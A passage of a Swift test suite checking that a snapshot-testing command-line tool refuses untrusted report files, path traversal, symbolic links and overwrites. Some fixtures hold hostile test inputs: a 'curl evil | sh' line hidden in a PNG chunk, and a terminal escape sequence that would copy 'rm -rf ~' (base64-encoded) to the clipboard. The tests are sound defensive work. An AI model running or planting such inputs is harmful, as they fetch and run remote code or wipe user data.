import Foundation
import RowKitGraphics
import RowKitTestSupport
import Testing

/// Issue 24's data-loss and untrusted-input defects, through the built `rowkit` binary: a
/// report folder never replaces a folder RowKit did not write; a report (which a pull
/// request controls when it comes from its CI run) never chooses where `accept` writes nor
/// what it reads; shown commands keep case names from being flags; references are never
/// written or deleted through a symbolic link out of their folder; and `check` never records
/// a render with a failed image. Serialized: each test runs `rowkit` several times.
@Suite(.serialized) struct UntrustedInputTests {
  /// A project folder with `tables/` holding one document per name.
  func project(_ names: [String] = ["case-0", "case-1"]) throws -> URL {
    let folder = try TestSupport.temporaryDirectory()
    for name in names { try write(folder, name, text: name) }
    return folder
  }

  func write(_ folder: URL, _ name: String, text: String) throws {
    let file = folder.appendingPathComponent("tables/\(name).yaml")
    try FileManager.default.createDirectory(at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
    try Data("items:\n  - { type: subtitle, text: \"\(text)\", subtitle: Sub }\n".utf8).write(to: file)
  }

  func run(_ arguments: [String], in folder: URL, ci: Bool = false) async throws -> CommandRunner.Result {
    try await CommandRunner.run(
      arguments, in: folder,
      environment: ["CI": ci ? "true" : "", "ROWKIT_RECORD": "", "ROWKIT_SNAPSHOT_ARTIFACTS": folder.appendingPathComponent(".artifacts").path])
  }

  func check(_ folder: URL, _ flags: [String] = [], ci: Bool = false) async throws -> CommandRunner.Result {
    try await run(["check", "tables", "--snapshots", "refs"] + flags, in: folder, ci: ci)
  }

  /// Every file under `folder` (links not followed) with its bytes, or its link target.
  func contents(_ folder: URL) -> [String: Data] {
    let paths = FileManager.default.enumerator(atPath: folder.path)?.allObjects as? [String] ?? []
    return Dictionary(uniqueKeysWithValues: paths.map { path in
      let url = folder.appendingPathComponent(path)
      if let link = try? FileManager.default.destinationOfSymbolicLink(atPath: url.path) { return (path, Data(("→" + link).utf8)) }
      return (path, FileManager.default.contents(atPath: url.path) ?? Data())
    })
  }

  func editReport(_ folder: URL, _ edit: (inout [String: Any]) -> Void) throws {
    let url = folder.appendingPathComponent("report.json")
    var report = try JSONSerialization.jsonObject(with: Data(contentsOf: url)) as! [String: Any]
    edit(&report)
    try JSONSerialization.data(withJSONObject: report).write(to: url)
  }

  /// Sets `key` of the case named `name` in report.json.
  func setCase(_ report: inout [String: Any], _ name: String, _ key: String, _ value: String) {
    var cases = report["cases"] as! [[String: Any]]
    let index = cases.firstIndex { $0["name"] as? String == name }!
    cases[index][key] = value
    report["cases"] = cases
  }

  // MARK: - 1. check --report never deletes what RowKit did not write

  @Test func checkRefusesAReportFolderItDidNotWriteAndReplacesItsOwnWhole() async throws {
    let folder = try project()
    defer { try? FileManager.default.removeItem(at: folder) }
    // The issue's example: `check cases --report .` in a folder whose cases/ holds the documents.
    try FileManager.default.copyItem(at: folder.appendingPathComponent("tables"), to: folder.appendingPathComponent("cases"))
    try Data("# my documents\n".utf8).write(to: folder.appendingPathComponent("cases/README.md"))
    try Data("notes\n".utf8).write(to: folder.appendingPathComponent("README.md"))
    let before = contents(folder)
    let here = try await run(["check", "cases", "--snapshots", "refs", "--report", "."], in: folder)
    #expect(here.status == 2, "\(here.stdout)")
    #expect(here.stderr.contains("exists and is not a report folder (it holds README.md, tables)"), "\(here.stderr)")
    #expect(here.stderr.contains("give --report a new folder, an empty one, or an earlier report"))
    #expect(contents(folder) == before, "nothing deleted, nothing written (not even references)")

    // A folder holding only a cases/ folder is no report either, nor is a file.
    let lone = folder.appendingPathComponent("lone")
    try FileManager.default.createDirectory(at: lone.appendingPathComponent("cases/mine"), withIntermediateDirectories: true)
    try Data("keep".utf8).write(to: lone.appendingPathComponent("cases/mine/keep.txt"))
    let noReport = try await check(folder, ["--report", "lone"])
    #expect(noReport.status == 2 && noReport.stderr.contains("lone: exists and is not a report folder (it has no report.json)"), "\(noReport.stderr)")
    let file = try await check(folder, ["--report", "README.md"])
    #expect(file.status == 2 && file.stderr.contains("README.md: exists and is not a folder"), "\(file.stderr)")
    #expect(contents(folder) == before.merging(["lone": Data(), "lone/cases": Data(), "lone/cases/mine": Data(), "lone/cases/mine/keep.txt": Data("keep".utf8)]) { $1 })

    // An earlier report is replaced whole: the images of a case that no longer fails go.
    _ = try await check(folder)
    try write(folder, "case-1", text: "changed")
    let failing = try await check(folder, ["--report", "report"], ci: true)
    #expect(failing.status == 1)
    #expect(FileManager.default.fileExists(atPath: folder.appendingPathComponent("report/cases/case-1/diff.png").path))
    let message = try String(contentsOf: folder.appendingPathComponent("report/report.json"), encoding: .utf8)
    #expect(message.contains(folder.appendingPathComponent("report/cases/case-1/diff.png").standardizedFileURL.path), "messages name the final folder")
    try write(folder, "case-1", text: "case-1")
    let passing = try await check(folder, ["--report", "report"], ci: true)
    #expect(passing.status == 0, "\(passing.stderr)")
    #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("report/cases/case-1/diff.png").path))
    #expect(FileManager.default.fileExists(atPath: folder.appendingPathComponent("report/cases/case-1/reference.png").path))
    let left = try FileManager.default.contentsOfDirectory(atPath: folder.path).filter { $0.hasPrefix(".report") }
    #expect(left.isEmpty, "no staging folder left beside the report: \(left)")
  }

  // MARK: - 2. a report folder is untrusted input

  /// A project whose case-0 failed in a report (`report/`) checked against `refs/`.
  func failedReport() async throws -> URL {
    let folder = try project()
    _ = try await check(folder)
    try write(folder, "case-0", text: "changed")
    let failing = try await check(folder, ["--report", "report"], ci: true)
    #expect(failing.status == 1, "\(failing.stderr)")
    return folder
  }

  @Test func acceptWritesOnlyIntoTheReferencesTheReportWasCheckedAgainst() async throws {
    let folder = try await failedReport()
    defer { try? FileManager.default.removeItem(at: folder) }
    let report = folder.appendingPathComponent("report")
    #expect(try String(contentsOf: report.appendingPathComponent("report.json"), encoding: .utf8).contains(#""snapshots" : "refs","#))
    // A folder outside the project that looks like references (its fingerprint matches).
    let victim = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: victim) }
    try FileManager.default.copyItem(
      at: folder.appendingPathComponent("refs/environment.json"), to: victim.appendingPathComponent("environment.json"))
    let (victimBefore, refsBefore) = (contents(victim), contents(folder.appendingPathComponent("refs")))

    try editReport(report) { $0["snapshots"] = victim.path }
    let outside = try await run(["accept", "report", "--all"], in: folder)
    #expect(outside.status == 2, "\(outside.stdout)")
    #expect(outside.stderr.contains("names the references folder \(victim.path), which is not a references folder of this project"), "\(outside.stderr)")
    let named = try await run(["accept", "report", "--snapshots", "refs", "--all"], in: folder)
    #expect(named.status == 2 && named.stderr.contains("it was checked against the references in \(victim.path), not "), "\(named.stderr)")
    #expect(contents(victim) == victimBefore && contents(folder.appendingPathComponent("refs")) == refsBefore)

    // Every path read from the report stays inside it: no `..`, no absolute path, no link.
    try editReport(report) { $0["snapshots"] = "refs" }
    let secret = folder.appendingPathComponent("secret.png")
    try Data(PNG.encode(Bitmap(width: 4, height: 4, color: .black))).write(to: secret)
    for path in ["../secret.png", "../../secret.png", secret.path] {
      try editReport(report) { setCase(&$0, "case-0", "actual", path) }
      let escaping = try await run(["accept", "report", "--", "case-0"], in: folder)
      #expect(escaping.status == 2 && escaping.stderr.contains("'\(path)' is not a path inside the report folder"), "\(escaping.stderr)")
    }
    try editReport(report) { setCase(&$0, "case-0", "actual", "cases/case-0/actual.png") }
    let actual = report.appendingPathComponent("cases/case-0/actual.png")
    let realActual = try Data(contentsOf: actual)
    let realReference = try Data(contentsOf: report.appendingPathComponent("cases/case-0/reference.png"))
    try FileManager.default.removeItem(at: actual)
    try FileManager.default.createSymbolicLink(at: actual, withDestinationURL: secret)
    let linked = try await run(["accept", "report", "--", "case-0"], in: folder)
    #expect(linked.status == 2 && linked.stderr.contains("actual.png: the actual image of 'case-0' is a symbolic link"), "\(linked.stderr)")
    // A link to a folder on the way is refused as well.
    let elsewhere = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: elsewhere) }
    try Data(PNG.encode(Bitmap(width: 4, height: 4, color: .black))).write(to: elsewhere.appendingPathComponent("actual.png"))
    try FileManager.default.removeItem(at: report.appendingPathComponent("cases/case-0"))
    try FileManager.default.createSymbolicLink(at: report.appendingPathComponent("cases/case-0"), withDestinationURL: elsewhere)
    let linkedFolder = try await run(["accept", "report", "--", "case-0"], in: folder)
    #expect(linkedFolder.status == 2 && linkedFolder.stderr.contains("cases/case-0: the actual image of 'case-0' is a symbolic link"), "\(linkedFolder.stderr)")
    #expect(contents(folder.appendingPathComponent("refs")) == refsBefore, "every refused accept wrote nothing")

    // The workflow it protects: a report from another checkout (a CI run) is accepted into
    // this project's references, with or without --snapshots.
    try FileManager.default.removeItem(at: report.appendingPathComponent("cases/case-0"))
    try FileManager.default.createDirectory(at: report.appendingPathComponent("cases/case-0"), withIntermediateDirectories: true)
    try realActual.write(to: actual)
    try realReference.write(to: report.appendingPathComponent("cases/case-0/reference.png"))
    let checkout = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: checkout) }
    for name in ["tables", "refs", "report"] {
      try FileManager.default.copyItem(at: folder.appendingPathComponent(name), to: checkout.appendingPathComponent(name))
    }
    let elsewhereAccept = try await run(["accept", "report", "--snapshots", "refs", "--", "case-0"], in: checkout)
    #expect(elsewhereAccept.status == 0, "\(elsewhereAccept.stderr)")
    #expect(try Data(contentsOf: checkout.appendingPathComponent("refs/case-0.png")) == realActual)
    #expect(contents(folder.appendingPathComponent("refs")) == refsBefore, "the report's own project is not written")
    let plain = try await run(["accept", "report", "--", "case-0"], in: folder)
    #expect(plain.status == 0 && plain.stdout.contains("1 reference accepted"), "\(plain.stderr)")
  }

  /// `accept` takes no claim of a report on its word (a pull request's CI run writes it): a
  /// case marked as differing in rasterization only whose layout changed, an actual image
  /// with bytes after its PNG's end, a layout record that is a link to nowhere (taken before
  /// for a record that is gone, which removed the reference's), a case said to have had no
  /// reference, and a reference other than the one the report shows are each refused,
  /// naming the file, with the references left as they were.
  @Test func acceptTakesNoClaimOfAReportOnItsWord() async throws {
    let folder = try await failedReport()
    defer { try? FileManager.default.removeItem(at: folder) }
    let (report, refs) = (folder.appendingPathComponent("report"), folder.appendingPathComponent("refs"))
    let refsBefore = contents(refs)
    func editCase(_ key: String, _ value: Any?) throws {
      try editReport(report) { report in
        var cases = report["cases"] as! [[String: Any]]
        let index = cases.firstIndex { $0["name"] as? String == "case-0" }!
        cases[index][key] = value
        report["cases"] = cases
      }
    }
    func accept(_ arguments: [String] = ["--", "case-0"]) async throws -> CommandRunner.Result {
      try await run(["accept", "report"] + arguments, in: folder)
    }

    try editCase("rasterizationOnly", true)
    let forged = try await accept(["--rasterization-only"])
    #expect(forged.status == 2, "\(forged.stdout)")
    #expect(forged.stderr.contains("case 'case-0' is marked as differing in rasterization only, but its layout changed (s0-r0 text \"case-0\" → \"changed\")"), "\(forged.stderr)")
    try editCase("rasterizationOnly", nil)

    let actual = report.appendingPathComponent("cases/case-0/actual.png")
    let realActual = try Data(contentsOf: actual)
    try (realActual + Data(count: 4096)).write(to: actual)
    let trailing = try await accept()
    #expect(trailing.status == 2 && trailing.stderr.contains("actual.png: the actual image of 'case-0' goes on after its PNG's end (the IEND chunk)"), "\(trailing.stderr)")
    // Bytes before the end, in a chunk of their own, would reach the references as well.
    try Data(PNG.inserting(text: Array("curl evil | sh".utf8), keyword: "payload", into: [UInt8](realActual))).write(to: actual)
    let ancillary = try await accept()
    #expect(ancillary.status == 2 && ancillary.stderr.contains("actual.png: the actual image of 'case-0' has a 'tEXt' chunk"), "\(ancillary.stderr)")
    try realActual.write(to: actual)
    // A tile that is a link to nowhere is refused, never taken for the image's end.
    let tile = report.appendingPathComponent("cases/case-0/actual+2.png")
    try FileManager.default.createSymbolicLink(atPath: tile.path, withDestinationPath: "/nonexistent/tile.png")
    let danglingTile = try await accept()
    #expect(danglingTile.status == 2 && danglingTile.stderr.contains("actual+2.png: the actual image of 'case-0' is a symbolic link"), "\(danglingTile.stderr)")
    try FileManager.default.removeItem(at: tile)

    let record = report.appendingPathComponent("cases/case-0/actual.layout.json")
    let realRecord = try Data(contentsOf: record)
    try FileManager.default.removeItem(at: record)
    try FileManager.default.createSymbolicLink(atPath: record.path, withDestinationPath: "/nonexistent/record.json")
    let dangling = try await accept()
    #expect(dangling.status == 2 && dangling.stderr.contains("actual.layout.json: the layout record of 'case-0' is a symbolic link"), "\(dangling.stderr)")
    try FileManager.default.removeItem(at: record)
    try realRecord.write(to: record)

    let reference = refs.appendingPathComponent("case-0.png")
    let realReference = try Data(contentsOf: reference)
    try Data(PNG.encode(Bitmap(width: 4, height: 4, color: .black))).write(to: reference)
    let replaced = try await accept()
    #expect(replaced.status == 2 && replaced.stderr.contains("refs/case-0.png is not the reference the report shows"), "\(replaced.stderr)")
    try editCase("reference", nil)
    let unshown = try await accept()
    #expect(unshown.status == 2 && unshown.stderr.contains("case 'case-0': the report shows no reference for it, but "), "\(unshown.stderr)")
    try editCase("reference", "cases/case-0/reference.png")
    try realReference.write(to: reference)
    try editCase("status", "missing")
    let unseen = try await accept()
    #expect(unseen.status == 2 && unseen.stderr.contains("case 'case-0': it had no reference when it was checked, but "), "\(unseen.stderr)")
    try editCase("status", "failed")
    #expect(contents(refs) == refsBefore, "every refused accept wrote nothing")

    // The report as the check wrote it is accepted; accepting it again changes nothing more.
    let accepted = try await accept()
    #expect(accepted.status == 0, "\(accepted.stderr)")
    #expect(try Data(contentsOf: reference) == realActual)
    let again = try await accept()
    #expect(again.status == 0, "\(again.stderr)")
  }

  /// A case a report marks as differing in rasterization only is accepted when the images
  /// show it: the same layout record, and every differing pixel (a faint one too) inside a
  /// label's glyphs. One pixel outside them refuses the accept.
  @Test func acceptChecksRasterizationOnlyCasesFromTheirImages() async throws {
    let folder = try await failedReport()
    defer { try? FileManager.default.removeItem(at: folder) }
    let (report, refs) = (folder.appendingPathComponent("report"), folder.appendingPathComponent("refs"))
    let caseFolder = report.appendingPathComponent("cases/case-0")
    try editReport(report) { report in
      var cases = report["cases"] as! [[String: Any]]
      let index = cases.firstIndex { $0["name"] as? String == "case-0" }!
      cases[index]["rasterizationOnly"] = true
      cases[index]["layoutChanges"] = nil
      report["cases"] = cases
    }
    // The report's actual record is the reference's; its image, the reference's with one
    // pixel changed by 3 in each channel, at (x, y) in device pixels.
    try FileManager.default.removeItem(at: caseFolder.appendingPathComponent("actual.layout.json"))
    try FileManager.default.copyItem(
      at: refs.appendingPathComponent("case-0.layout.json"), to: caseFolder.appendingPathComponent("actual.layout.json"))
    let reference = try PNG.decode(contentsOf: refs.appendingPathComponent("case-0.png"))
    func writeActual(changing x: Int, _ y: Int) throws -> Data {
      var pixels = reference.pixels
      for channel in 0..<3 {
        let index = (y * reference.width + x) * 4 + channel
        pixels[index] = pixels[index] >= 3 ? pixels[index] - 3 : pixels[index] + 3
      }
      let png = Data(try PNG.encode(Bitmap(width: reference.width, height: reference.height, pixels: pixels)))
      try png.write(to: caseFolder.appendingPathComponent("actual.png"))
      return png
    }
    // (2, 2) is the row's background; (40, 40), the title's ink (10.7 to 68.4 points across,
    // 13.9 to 26.8 down, at scale 2).
    _ = try writeActual(changing: 2, 2)
    let outside = try await run(["accept", "report", "--rasterization-only"], in: folder)
    #expect(outside.status == 2 && outside.stderr.contains("but not every differing pixel is inside glyphs"), "\(outside.stderr)")
    let inside = try writeActual(changing: 40, 40)
    let accepted = try await run(["accept", "report", "--rasterization-only"], in: folder)
    #expect(accepted.status == 0, "\(accepted.stderr)")
    #expect(try Data(contentsOf: refs.appendingPathComponent("case-0.png")) == inside)
  }

  /// `check` reads no layout record through a link out of the references (its text would
  /// reach the report and the sentences), and prints a row's text with its control
  /// characters escaped: an escape sequence in a document drove the terminal (OSC 52 writes
  /// the clipboard).
  @Test func checkReadsNoRecordThroughALinkAndPrintsNoControlCharacters() async throws {
    let folder = try project(["case-0", "case-1"])
    defer { try? FileManager.default.removeItem(at: folder) }
    _ = try await check(folder)
    let (record, outside) = (folder.appendingPathComponent("refs/case-0.layout.json"), folder.appendingPathComponent("private.layout.json"))
    try FileManager.default.moveItem(at: record, to: outside)
    try FileManager.default.createSymbolicLink(atPath: record.path, withDestinationPath: "../private.layout.json")
    try write(folder, "case-0", text: "changed")
    try write(folder, "case-1", text: "Hi\\e]52;c;cm0gLXJmIH4K\\a\\e[2J\\n::error::forged")
    let checked = try await check(folder, ["--report", "report"], ci: true)
    #expect(checked.status == 2, "\(checked.stdout)")
    #expect(checked.stdout.contains("ERROR case-0"), "\(checked.stdout)")
    #expect(
      (checked.stdout + checked.stderr).contains("refs/case-0.layout.json leads out of the references folder"),
      "\(checked.stdout)\(checked.stderr)")
    #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("report/cases/case-0/reference.layout.json").path))
    #expect(!checked.stdout.contains("\u{1B}") && !checked.stderr.contains("\u{1B}") && !checked.stdout.contains("\u{7}"), "\(checked.stdout)")
    #expect(checked.stdout.contains(#"→ "Hi\u{1B}]52;c;cm0gLXJmIH4K\u{7}\u{1B}[2J\u{A}::error::for…""#), "\(checked.stdout)")
    #expect(!checked.stdout.split(separator: "\n").contains { $0.hasPrefix("::error") }, "\(checked.stdout)")
  }

  /// `review DIR --snapshots` checks DIR as documents only when it is no report folder: a
  /// downloaded report whose `report.json` is a link (to nowhere too) or is gone was taken
  /// for documents, and the check recorded references from whatever documents it held.
  @Test func reviewNeverChecksAReportFolderAsDocuments() async throws {
    let folder = try project(["case-0"])
    defer { try? FileManager.default.removeItem(at: folder) }
    _ = try await check(folder)
    let downloaded = folder.appendingPathComponent("downloaded")
    try FileManager.default.createDirectory(at: downloaded.appendingPathComponent("cases"), withIntermediateDirectories: true)
    try Data("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<title>RowKit snapshots: 1 to review</title>\n".utf8)
      .write(to: downloaded.appendingPathComponent("index.html"))
    try Data("items:\n  - { type: text, text: planted }\n".utf8).write(to: downloaded.appendingPathComponent("planted.yaml"))
    try FileManager.default.createSymbolicLink(
      atPath: downloaded.appendingPathComponent("report.json").path, withDestinationPath: "/nonexistent/report.json")
    let refsBefore = contents(folder.appendingPathComponent("refs"))
    let linked = try await run(["review", "downloaded", "--snapshots", "refs"], in: folder)
    #expect(linked.status == 2, "\(linked.stdout)")
    #expect(linked.stderr.contains("downloaded/report.json: the report is a symbolic link"), "\(linked.stderr)")
    try FileManager.default.removeItem(at: downloaded.appendingPathComponent("report.json"))
    let gone = try await run(["review", "downloaded", "--snapshots", "refs"], in: folder)
    #expect(gone.status == 2, "\(gone.stdout)")
    #expect(
      gone.stderr.contains("downloaded: it holds the index.html and cases of a report folder but no report.json"), "\(gone.stderr)")
    #expect(contents(folder.appendingPathComponent("refs")) == refsBefore, "no reference was recorded from the folder")
  }

  /// A reference that does not decode fails its case with the actual image and the
  /// reference's bytes in the report, so that it is reviewed and accepted like any failure
  /// (it was a failure with no image to accept, which only a re-record could mend).
  @Test func aDamagedReferenceIsAcceptedLikeAnyFailure() async throws {
    let folder = try project(["case-0"])
    defer { try? FileManager.default.removeItem(at: folder) }
    _ = try await check(folder)
    let reference = folder.appendingPathComponent("refs/case-0.png")
    let damaged = try Data(contentsOf: reference).prefix(200)
    try damaged.write(to: reference)
    let checked = try await check(folder, ["--report", "report"], ci: true)
    #expect(checked.status == 1, "\(checked.stdout)\(checked.stderr)")
    #expect(checked.stdout.contains("FAILED case-0: the reference cannot be compared: "), "\(checked.stdout)")
    #expect(try Data(contentsOf: folder.appendingPathComponent("report/cases/case-0/reference.png")) == damaged)
    let accepted = try await run(["accept", "report", "--", "case-0"], in: folder)
    #expect(accepted.status == 0, "\(accepted.stderr)")
    let again = try await check(folder, [], ci: true)
    #expect(again.status == 0, "\(again.stdout)\(again.stderr)")
  }

  /// An output never replaces an image the document shows (known only once the render ran,
  /// and refused before anything is put in place), and catalog claims its outputs as render
  /// does: a manifest named as a row file is refused, and --designs writes no manifest or
  /// rows it would silently leave out.
  @Test func outputsNeverReplaceAnImageTheDocumentShowsNorEachOther() async throws {
    let folder = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: folder) }
    let photo = folder.appendingPathComponent("p.png")
    try FileManager.default.copyItem(at: TestSupport.repositoryRoot.appendingPathComponent("Assets/images/photo.png"), to: photo)
    try Data("items: [{ type: image, text: hi, imageURL: p.png }]\n".utf8).write(to: folder.appendingPathComponent("img.yaml"))
    try FileManager.default.createDirectory(at: folder.appendingPathComponent("cr"), withIntermediateDirectories: false)
    let before = contents(folder)
    let overImage = try await run(["render", "img.yaml", "-o", "p.png", "--manifest", "m.json"], in: folder)
    #expect(overImage.status == 2, "\(overImage.stdout)")
    #expect(overImage.stderr.contains("cannot write \(photo.path) for -o: the document shows it as an image"), "\(overImage.stderr)")
    #expect(contents(folder) == before, "nothing written, the image as it was")
    // A row's file of --rows-dir as well.
    try FileManager.default.copyItem(at: photo, to: folder.appendingPathComponent("cr/s0-r0.png"))
    try Data("items: [{ type: image, text: hi, imageURL: cr/s0-r0.png }]\n".utf8).write(to: folder.appendingPathComponent("row.yaml"))
    let rowsBefore = contents(folder)
    let overRow = try await run(["render", "row.yaml", "--rows-dir", "cr"], in: folder)
    #expect(
      overRow.status == 2 && overRow.stderr.contains("s0-r0.png for --rows-dir cr: the document shows it as an image"), "\(overRow.stderr)")
    #expect(contents(folder) == rowsBefore)
    try FileManager.default.removeItem(at: folder.appendingPathComponent("cr/s0-r0.png"))
    try FileManager.default.removeItem(at: folder.appendingPathComponent("row.yaml"))

    let rows = try await run(["catalog", "-o", "c.png", "--rows-dir", "cr", "--manifest", "cr/s0-r0.png"], in: folder)
    #expect(rows.status == 2 && rows.stderr.contains("it is the name of a row file of --rows-dir cr"), "\(rows.stderr)")
    let designs = try await run(
      ["catalog", "--designs", TestSupport.repositoryRoot.appendingPathComponent("Assets/Designs").path, "-o", "d.png", "--manifest", "d.json"],
      in: folder)
    #expect(designs.status == 2 && designs.stderr.contains("--rows-dir and --manifest are not written with it"), "\(designs.stderr)")
    // One name for the table and the rows' folder was said to be "a folder is there".
    for command in [["render", "img.yaml", "-o", "x.png", "--rows-dir", "x.png"], ["catalog", "-o", "x.png", "--rows-dir", "x.png"]] {
      let same = try await run(command, in: folder)
      #expect(same.status == 2 && same.stderr.contains("-o and --rows-dir both name x.png"), "\(command): \(same.stderr)")
    }
    #expect(contents(folder) == before)
  }

  /// An output named by links that lead to each other is refused, as the kernel refuses to
  /// follow them; the last link followed was replaced by the output file.
  @Test func anOutputThroughLinksInALoopIsRefused() async throws {
    let folder = try project(["table"])
    defer { try? FileManager.default.removeItem(at: folder) }
    try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("loop1.png").path, withDestinationPath: "loop2.png")
    try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("loop2.png").path, withDestinationPath: "loop1.png")
    let before = contents(folder)
    let looped = try await run(["render", "tables/table.yaml", "-o", "loop1.png"], in: folder)
    #expect(looped.status == 2, "\(looped.stdout)")
    #expect(looped.stderr == "rowkit: error: cannot write \(folder.path)/loop1.png: Too many levels of symbolic links\n", "\(looped.stderr)")
    #expect(contents(folder) == before, "both links as they were, nothing written")
  }

  @Test func mergedReportsUseOnlyImagesInsideTheirFolders() async throws {
    let folder = try project(["case-0", "case-1", "case-2", "case-3"])
    defer { try? FileManager.default.removeItem(at: folder) }
    _ = try await check(folder)
    try write(folder, "case-0", text: "changed")
    for index in 1...2 { _ = try await check(folder, ["--shard", "\(index)/2", "--report", "shard-\(index)"], ci: true) }
    let merge = ["merge-reports", "shard-1", "shard-2", "-o", "merged"]
    let original = try Data(contentsOf: folder.appendingPathComponent("shard-1/report.json"))
    for address in ["http://127.0.0.1:9/x.png", "//example.com/x.png", "data:image/png;base64,iVBORw0KGgo=", "/etc/x.png", "cases/../../x.png"] {
      try editReport(folder.appendingPathComponent("shard-1")) { setCase(&$0, "case-0", "actual", address) }
      let refused = try await run(merge, in: folder, ci: true)
      #expect(refused.status == 2 && refused.stderr.contains("its actual image '\(address)' is not a path inside the report folder"), "\(refused.stderr)")
      #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("merged").path))
    }
    // A shard count no run can have would be counted through, shard by shard, for hours.
    for shard in ["1/1000000000000000000", "1/1001"] {
      try original.write(to: folder.appendingPathComponent("shard-1/report.json"))
      try editReport(folder.appendingPathComponent("shard-1")) { $0["shard"] = shard }
      let refused = try await run(merge, in: folder, ci: true)
      #expect(refused.status == 2 && refused.stderr.contains("shard '\(shard)' is not i/n with 1 ≤ i ≤ n ≤ 1000"), "\(refused.stderr)")
      #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("merged").path))
    }
    try original.write(to: folder.appendingPathComponent("shard-1/report.json"))
    // A link in a shard's images is not copied: it could lead anywhere.
    let link = folder.appendingPathComponent("shard-2/cases/case-1/secret.png")
    try FileManager.default.createSymbolicLink(at: link, withDestinationURL: folder.appendingPathComponent("refs/case-1.png"))
    let linked = try await run(merge, in: folder, ci: true)
    #expect(linked.status == 2 && linked.stderr.contains("secret.png: is not a regular file (a symbolic link?)"), "\(linked.stderr)")
    #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("merged").path))
    try FileManager.default.removeItem(at: link)
    let merged = try await run(merge, in: folder, ci: true)
    #expect(merged.status == 1, "\(merged.stderr)")
    let page = try String(contentsOf: folder.appendingPathComponent("merged/index.html"), encoding: .utf8)
    #expect(page.contains(#"<img src="cases/case-0/actual.png""#))
  }

  /// A JUnit or summary file that could not be written at the end of a check or a merge (a
  /// folder at its path, or one file for both) is refused before anything is written: the
  /// report folder used to be written in full and the command then failed.
  @Test func summaryFilesThatCannotBeWrittenAreRefusedFirst() async throws {
    let folder = try project(["row"])
    defer { try? FileManager.default.removeItem(at: folder) }
    _ = try await check(folder)
    try FileManager.default.createDirectory(at: folder.appendingPathComponent("adir"), withIntermediateDirectories: false)
    try Data("x".utf8).write(to: folder.appendingPathComponent("refs-file"))
    let before = contents(folder)
    for (command, refusal) in [
      (["check", "tables", "--snapshots", "refs", "--report", "report", "--junit", "adir"],
       "cannot write adir for --junit: a folder is there"),
      (["check", "tables", "--snapshots", "refs", "--report", "report", "--junit", "ci.txt", "--summary", "ci.txt"],
       "--junit and --summary both name ci.txt"),
      (["merge-reports", "shard-1", "-o", "merged", "--summary", "adir"], "cannot write adir for --summary: a folder is there"),
      // A summary never overwrites what the command reads or writes: a document, a
      // reference (under CI too), a report.
      (["check", "tables", "--snapshots", "refs", "--junit", "tables/row.yaml"],
       "cannot write tables/row.yaml for --junit: it is inside the documents \(folder.path)/tables, which this command reads or writes"),
      (["check", "tables", "--snapshots", "refs", "--summary", "refs/row.png"],
       "cannot write refs/row.png for --summary: it is inside the references \(folder.path)/refs, which this command reads or writes"),
      (["check", "tables", "--snapshots", "refs", "--report", "report", "--junit", "report"],
       "cannot write report for --junit: it is the report folder \(folder.path)/report, which this command reads or writes"),
      (["merge-reports", "shard-1", "shard-2", "-o", "merged", "--junit", "shard-1/report.json"],
       "cannot write shard-1/report.json for --junit: it is inside the shard report \(folder.path)/shard-1, which this command reads or writes"),
      // Found at the end, it failed after the report and new references were written.
      (["check", "tables", "--snapshots", "refs", "--report", "report", "--junit", "refs-file/junit.xml"],
       "cannot write refs-file/junit.xml for --junit: \(folder.path)/refs-file is not a folder"),
    ] {
      let result = try await run(command, in: folder, ci: true)
      #expect(result.status == 2, "\(command): \(result.stderr)")
      #expect(result.stderr == "rowkit: error: \(refusal); nothing is written\n")
      #expect(contents(folder) == before, "\(command)")
    }
    for (flags, refusal) in [
      (["--snapshots", "refs", "--report", "refs/report"], "--report refs/report is inside the references folder refs"),
      (["--snapshots", "refs", "--artifacts", "refs/artifacts"], "--artifacts refs/artifacts is inside the references folder refs"),
      (["--snapshots", "report/refs", "--report", "report"], "the references folder report/refs is inside --report report, which is replaced whole"),
    ] {
      let nested = try await run(["check", "tables"] + flags, in: folder)
      #expect(nested.status == 2 && nested.stderr.contains(refusal), "\(flags): \(nested.stderr)")
    }
    try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("j1").path, withDestinationPath: "j2")
    try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("j2").path, withDestinationPath: "j1")
    let looped = try await run(["check", "tables", "--snapshots", "refs", "--junit", "j1"], in: folder)
    #expect(looped.status == 2 && looped.stderr.contains("cannot write j1 for --junit: the symbolic links on the way lead in a loop"), "\(looped.stderr)")
    try FileManager.default.removeItem(at: folder.appendingPathComponent("j1"))
    try FileManager.default.removeItem(at: folder.appendingPathComponent("j2"))
    #expect(contents(folder) == before)
    // A check of the project folder itself writes its CI files inside it, beside the
    // documents: only a document's name is refused there.
    let here = try await run(["check", ".", "--snapshots", "refs", "--junit", "out/junit.xml", "--summary", "summary.md"], in: folder)
    #expect(here.status == 1 && here.stdout.contains("NEW tables/row"), "\(here.stdout)\(here.stderr)")
    #expect(FileManager.default.fileExists(atPath: folder.appendingPathComponent("out/junit.xml").path))
    let overDocument = try await run(["check", ".", "--snapshots", "refs", "--junit", "tables/row.yaml"], in: folder)
    #expect(overDocument.status == 2 && overDocument.stderr.contains("cannot write tables/row.yaml for --junit: it is inside the documents"), "\(overDocument.stderr)")
    // A file the check reads that no option names (a document's own stylesheet, a cell
    // design, an image) is known by its bytes: only a JUnit file or a summary RowKit wrote
    // is replaced. Both were overwritten before.
    let style = folder.appendingPathComponent("style.yaml")
    try Data("vars: { textColor: \"#FF0000\" }\n".utf8).write(to: style)
    let empty = folder.appendingPathComponent("empty.md")
    try Data().write(to: empty)
    for flag in ["--summary", "--junit"] {
      let over = try await run(["check", "tables", "--snapshots", "refs", flag, "style.yaml"], in: folder)
      #expect(over.status == 2, "\(over.stdout)\(over.stderr)")
      #expect(
